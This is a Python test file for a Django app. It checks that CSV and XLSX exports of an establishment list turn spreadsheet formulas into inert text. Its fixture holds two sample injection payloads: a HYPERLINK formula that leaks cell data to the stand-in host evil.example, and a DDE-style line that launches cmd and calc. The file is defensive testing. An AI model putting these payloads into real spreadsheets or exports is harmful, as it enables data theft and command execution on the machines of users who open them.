"""The establishment list's exports through HTTP: a name typed as a formula stays text."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

pytestmark = pytest.mark.django_db
ATTACK = '=HYPERLINK("http://evil.example/?d="&A1,"Gốm sứ")'


@pytest.fixture
def hostile(create, tq_commune):
    return create(tq_commune, name=ATTACK, products="@SUM(1+1)*cmd|' /C calc'!A0", employees=7)


def test_csv_export_quotes_formulas(client, officer, hostile):
    client.force_login(officer)
    response = client.get(reverse("establishments:list"), {"export": "csv"})
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    row = next(r for r in rows if ATTACK in "".join(r))
    assert "'" + ATTACK in row and ATTACK not in row
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in row
    assert "7" in row  # numbers stay numbers
    assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r)


def test_xlsx_export_writes_formulas_as_text(client, officer, hostile):
    client.force_login(officer)
    response = client.get(reverse("establishments:list"), {"export": "xlsx"})
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
    name = next(c for c in cells if c.value == ATTACK)
    assert name.data_type == "s"
    employees = [c for c in cells if c.row == name.row and c.data_type == "n" and c.value is not None]
    assert [c.value for c in employees] == [7]
